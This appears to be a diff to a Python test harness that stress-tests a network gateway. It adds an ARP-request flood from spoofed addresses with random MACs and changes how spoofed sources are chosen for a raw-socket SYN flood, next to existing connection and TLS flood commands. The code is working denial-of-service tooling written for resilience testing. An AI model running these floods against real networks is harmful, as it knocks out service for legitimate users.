@@ -7,11 +7,15 @@ what the gateway answered, for the test to assert on.
 
   synflood IFACE DST_MAC DST_IP NET SOURCES COUNT RATE PORT
       COUNT SYNs at RATE per second from SOURCES spoofed addresses of NET
-      (a.b.c.d/len: the attacker's own subnet, none of .1-.99 of its last
-      /24, where the gateway, the attacker and the legitimate clients are)
+      (a.b.c.d/len: the attacker's own subnet, none in the /24 of DST_IP,
+      where the gateway, the attacker and the legitimate clients are)
       with random ports and sequence numbers, by a raw AF_PACKET socket:
       nobody answers the SYN-ACKs (nor the gateway's ARP requests for the
       sources), every SYN leaves a half-open connection or a cookie.
+  arpflood IFACE DST_IP NET SOURCES RATE
+      One ARP request for DST_IP from each of SOURCES spoofed addresses of
+      NET (as synflood), each with its own random MAC, RATE a second: every
+      one asks the gateway to learn a neighbour that will never talk to it.
   connflood ADDR PORT N INTERVAL HOLD
       N connections, one every INTERVAL s, each reading the first reply
       line; HOLD 1 keeps them open till the end, 0 closes each at once.
@@ -124,13 +128,14 @@ def syn_frame(dmac, smac, src, dst, sport, dport, seq):
     return dmac + smac + b"\x08\x00" + ip + tcp
 
 
-def spoofed(net, n, rnd):
-    """n distinct host addresses of net ("a.b.c.d/len"), none in x.y.z.0-99 of the last /24."""
+def spoofed(net, n, rnd, dst):
+    """n distinct host addresses of net ("a.b.c.d/len"), none in the /24 of dst
+    (the gateway's, where the attacker and the legitimate clients are)."""
     base, plen = net.split("/")
     lo = struct.unpack("!I", socket.inet_aton(base))[0] & ~((1 << (32 - int(plen))) - 1) & 0xFFFFFFFF
     hi = lo + (1 << (32 - int(plen))) - 1
-    top = hi & ~0xFF
-    cand = [a for a in range(lo + 1, hi) if not (top <= a < top + 100) and (a & 0xFF) not in (0, 255)]
+    mine = struct.unpack("!I", dst)[0] & ~0xFF
+    cand = [a for a in range(lo + 1, hi) if a & ~0xFF != mine and (a & 0xFF) not in (0, 255)]
     return [struct.pack("!I", a) for a in rnd.sample(cand, min(n, len(cand)))]
 
 
@@ -140,7 +145,7 @@ def synflood(iface, dmac, dst, net, sources, count, rate, port):
     smac = bytes.fromhex(open("/sys/class/net/%s/address" % iface).read().strip().replace(":", ""))
     dst = socket.inet_aton(dst)
     rnd = random.Random(12)
-    srcs = spoofed(net, int(sources), rnd)
+    srcs = spoofed(net, int(sources), rnd, dst)
     sk = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     sk.bind((iface, 0))
     t0 = time.time()
@@ -152,6 +157,23 @@ def synflood(iface, dmac, dst, net, sources, count, rate, port):
         if ahead > 0:
             time.sleep(ahead)
     out({"sent": count, "secs": round(time.time() - t0, 3), "sources": len(srcs)})
+
+
+def arpflood(iface, dst, net, sources, rate):
+    rate = float(rate)
+    rnd = random.Random(13)
+    srcs = spoofed(net, int(sources), rnd, socket.inet_aton(dst))
+    sk = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    sk.bind((iface, 0))
+    t0 = time.time()
+    for i, src in enumerate(srcs):
+        mac = bytes([0x02] + [rnd.randrange(256) for _ in range(5)])
+        arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac, src, b"\0" * 6, socket.inet_aton(dst))
+        sk.send(b"\xff" * 6 + mac + b"\x08\x06" + arp + b"\0" * 18)
+        ahead = t0 + (i + 1) / rate - time.time()
+        if ahead > 0:
+            time.sleep(ahead)
+    out({"sent": len(srcs), "secs": round(time.time() - t0, 3)})
 
 
 # ---- connection flood ----
@@ -463,7 +485,7 @@ def garbage(addr, port, n, seed):
 
 
 if __name__ == "__main__":
-    cmds = {"synflood": synflood, "connflood": connflood, "noread": noread, "pipeline": pipeline,
+    cmds = {"synflood": synflood, "arpflood": arpflood, "connflood": connflood, "noread": noread, "pipeline": pipeline,
             "tls-silence": tls_silence, "tls-garbage": tls_garbage, "tls-loop": tls_loop,
             "garbage": garbage}
     if len(sys.argv) < 2 or sys.argv[1] not in cmds:
